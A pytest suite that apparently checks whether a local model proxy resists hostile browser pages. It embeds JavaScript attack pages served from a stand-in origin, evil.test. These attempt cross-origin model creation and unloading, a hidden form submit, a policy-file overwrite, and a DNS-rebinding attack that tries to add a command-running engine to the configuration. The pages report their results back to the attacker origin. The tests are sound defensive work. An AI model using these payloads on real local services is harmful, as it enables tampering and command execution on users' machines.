"""What pages in a real browser can do to a whole proxy, and what they cannot."""

import json
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from prometheus_client.parser import text_string_to_metric_families as families

from tests.support.browser import Network, Pages, network, opened, pages
from tests.support.guard import until
from tests.support.models import model
from tests.support.policies import policies
from tests.support.proxy import Proxy, proxy

pytestmark = pytest.mark.llama
MODEL = "tiny"

# `T` is the proxy as pages call it, `tell` says what they saw.
HEAD = """<!doctype html><meta charset=utf-8><body><script>
const T = %s, B = %s, MODEL = "tiny";
const tell = seen => fetch(B + "/report",
  {method: "POST", mode: "no-cors", body: JSON.stringify(seen)});
const part = (kind, fields) => new Promise(done => {
  const made = Object.assign(document.createElement(kind), fields);
  made.onload = () => done("loaded");
  made.onerror = () => done("failed");
  document.body.append(made);
});
const text = (path, more) => fetch(T + path, more).then(
  async answer => [answer.status, await answer.text()], () => ["unreadable", ""]);
"""

# Everything that a page may send without being asked for anything.
ATTACK = """
const seen = {};
const post = (path, body) => fetch(T + path, {method: "POST", mode: "no-cors", body});
(async () => {
  await post("/api/create", JSON.stringify({model: "stolen", from: MODEL}));
  navigator.sendBeacon(T + "/api/pull", JSON.stringify({model: "stolen"}));
  seen.image = await part("img", {src: T + "/unload"});
  seen.script = await part("script", {src: T + "/running"});
  await part("iframe", {name: "inner", src: T + "/upstream/tiny/props"});
  const form = Object.assign(document.createElement("form"),
    {action: T + `/admin/models/${MODEL}/unload`, method: "post", target: "inner"});
  document.body.append(form);
  const sent = new Promise(done => document.querySelector("iframe").onload = done);
  form.submit();
  await sent;
  seen.read = await text("/api/tags");
  seen.put = await text("/admin/policies/policies.toml", {method: "PUT", body: ""});
  seen.chat = await text("/v1/chat/completions", {method: "POST", body: "{}"});
  await tell(seen);
  location = T + "/";
})();
"""

REBOUND = """
(async () => {
  await fetch("/rebind");
  // Until connections are used up that were made before.
  while ((await fetch("/health")).headers.has("X-Pages"));
  const seen = {};
  for (const [path, method, body] of %s)
    seen[path] = await text(path, {method, body: body || undefined});
  await tell(seen);
})();
"""

CHAT = """
const ask = model => fetch(T + "/v1/chat/completions", {
  method: "POST",
  headers: {"Content-Type": "application/json", "X-Stainless-OS": "any", Authorization: "Bearer x"},
  body: JSON.stringify({model, stream: true, max_tokens: 8,
    messages: [{role: "user", content: "hi"}]}),
});
(async () => {
  const answer = await ask(MODEL), refused = await ask("nobody");
  await tell({
    status: answer.status, text: await answer.text(),
    backend: answer.headers.get("X-Moe-Proxy-Backend"),
    error: [refused.status, (await refused.json()).error.code],
  });
  const stream = (await fetch(T + "/admin/events")).body.getReader();
  let seen = "";
  for (const word of ["connected", "of_this_test"]) {
    while (!seen.includes(word)) seen += new TextDecoder().decode((await stream.read()).value);
    await tell(word);
  }
})().catch(error => tell({failed: String(error)}));
"""


def page(script: str, target: str, base: str) -> str:
    return HEAD % (json.dumps(target), json.dumps(base)) + script + "</script>"


def routes(proxy: Proxy, status: int) -> set[str]:
    """The routes that answered with this status."""
    return {
        sample.labels["path"]
        for family in families(proxy.app.services.metrics.text().decode())
        for sample in family.samples
        if sample.name == "moe_proxy_requests_total" and sample.labels["status"] == str(status)
    }


@pytest.fixture
async def served(tmp_path: Path) -> AsyncIterator[Proxy]:
    tiny = {"path": model(layers=4), "ctx": 1024}
    server = {"origins": ["http://chat.test:*"]}
    async with proxy(tmp_path, policies({MODEL: tiny}, server=server)) as made:
        yield made


@pytest.fixture
async def pages_of_others() -> AsyncIterator[Pages]:
    async with pages() as made:
        yield made


@pytest.fixture
async def names() -> AsyncIterator[Network]:
    async with network() as made:
        yield made


async def test_a_page_of_another_origin_can_do_nothing(
    served: Proxy, pages_of_others: Pages, names: Network, tmp_path: Path
) -> None:
    await served.post(f"/admin/models/{MODEL}/load")
    base = f"http://evil.test:{pages_of_others.port}"
    names.leads["evil.test", pages_of_others.port] = pages_of_others.port
    pages_of_others.html["/"] = page(ATTACK, served.url, base)
    before = served.policies.read_text()

    async with opened(base, tmp_path / "browser", names):
        seen = await pages_of_others.report()
        await until(lambda: "/" in routes(served, 200), "a link opens the front page")

    assert seen == {
        "image": "failed",
        "script": "failed",
        "read": ["unreadable", ""],
        "put": ["unreadable", ""],
        "chat": ["unreadable", ""],
    }
    assert routes(served, 403) >= {
        "/api/create",
        "/api/pull",
        "/unload",
        "/running",
        "/upstream/{rest}",
        "/admin/models/{name}/unload",
        "/api/tags",
        "/v1/chat/completions",
    }
    assert [backend["model"] for backend in await served.ready()] == [MODEL]
    assert [entry["id"] for entry in (await served.get("/v1/models"))["data"]] == [MODEL]
    assert served.policies.read_text() == before


async def test_a_page_whose_name_leads_to_the_proxy_later_can_do_nothing(
    served: Proxy, pages_of_others: Pages, names: Network, tmp_path: Path
) -> None:
    """DNS rebinding: to its browser it is a page of the proxy's own."""
    await served.post(f"/admin/models/{MODEL}/load")
    port = int(served.url.rpartition(":")[2])
    base, rebound = f"http://evil.test:{pages_of_others.port}", f"http://evil.test:{port}"
    names.leads["evil.test", pages_of_others.port] = pages_of_others.port
    names.leads["evil.test", port] = pages_of_others.port
    before = served.policies.read_text()
    command = before + '\n[models.x]\nengine = "command"\ncommand = ["touch", "{port}"]\n'
    tries = [
        ("/health", "GET", ""),
        ("/unload", "GET", ""),
        ("/api/tags", "GET", ""),
        ("/api/create", "POST", json.dumps({"model": "stolen", "from": MODEL})),
        ("/admin/policies/policies.toml", "PUT", command),
    ]
    pages_of_others.html["/"] = page(REBOUND % json.dumps(tries), "", base)

    pages_of_others.calls["/rebind"] = lambda: names.leads.update({("evil.test", port): port})

    async with opened(rebound, tmp_path / "browser", names):
        seen = await pages_of_others.report()

    assert {path: status for path, (status, _) in seen.items()} == {t[0]: 403 for t in tries}
    assert all("server.hosts" in text for _, text in seen.values())
    assert [backend["model"] for backend in await served.ready()] == [MODEL]
    assert served.policies.read_text() == before


@pytest.mark.parametrize("host", ["127.0.0.1", "chat.test"])
async def test_a_page_that_is_allowed_can_chat_and_stream(
    served: Proxy, pages_of_others: Pages, names: Network, tmp_path: Path, host: str
) -> None:
    base = f"http://{host}:{pages_of_others.port}"
    names.leads[host, pages_of_others.port] = pages_of_others.port
    pages_of_others.html["/"] = page(CHAT, served.url, base)

    async with opened(base, tmp_path / "browser", names):
        seen = await pages_of_others.report()
        assert await pages_of_others.report() == "connected"
        served.app.services.events.publish("of_this_test")
        assert await pages_of_others.report() == "of_this_test"

    assert (seen["status"], seen["backend"]) == (200, "b1")
    assert seen["text"].rstrip().endswith("data: [DONE]")
    assert seen["error"] == [404, "model_not_found"]
